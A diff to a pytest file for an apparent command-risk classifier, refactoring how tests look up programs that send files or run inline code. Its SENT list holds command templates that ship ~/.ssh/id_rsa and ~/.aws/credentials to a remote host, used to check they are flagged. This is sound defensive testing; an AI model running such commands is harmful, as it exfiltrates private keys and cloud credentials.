@@ -6,7 +6,6 @@ import pytest
 
 from assent import rules_table
 from assent.risk import Category
-from assent.risk.code.errands import INLINE
 from assent.risk.combined.exposure import GIVING
 from assent.rules_table import FETCHES, KNOWN
 
@@ -16,7 +15,7 @@ SENT = ["{0} put ~/.ssh/id_rsa x://there", "{0} ~/.aws/credentials there:", "{0}
 
 
 @pytest.mark.parametrize("frame", SENT)
-@pytest.mark.parametrize("program", sorted(GIVING))
+@pytest.mark.parametrize("program", sorted(rules_table.of_kind(GIVING)))
 def test_a_secret_given_to_what_sends_files_leaves_the_machine(program: str, frame: str) -> None:
     found = worst(frame.format(program))
     assert found.category is Category.Destroys, found.reason
@@ -192,9 +191,9 @@ def test_a_task_whose_name_drops_what_is_stored_deletes_data(frame: str, task: s
     assert worst(frame.format(task)).category is Category.DeletesData
 
 
-@pytest.mark.parametrize("program", sorted(INLINE))
+@pytest.mark.parametrize("program", sorted(rules_table.of_kind("words code")))
 def test_code_in_the_words_is_not_the_code_of_the_project(program: str) -> None:
-    for option in INLINE[program].split():
+    for option in rules_table.words(program, "code"):
         assert worst(f"{program} {option} 'x()'").category >= Category.Unrecognized
 
 
